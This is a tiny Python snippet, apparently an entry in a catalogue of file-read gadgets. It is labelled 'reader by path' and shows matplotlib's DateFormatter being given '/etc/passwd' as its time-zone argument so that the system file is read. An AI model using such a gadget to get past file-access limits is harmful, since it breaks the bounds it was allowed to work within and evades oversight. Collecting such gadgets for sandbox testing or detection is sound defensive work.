# class: data
# mechanism: reader by path
# how: time zone of a chart
# reaches: reads /etc/passwd
import matplotlib.dates
matplotlib.dates.DateFormatter("%Y", tz="/etc/passwd")
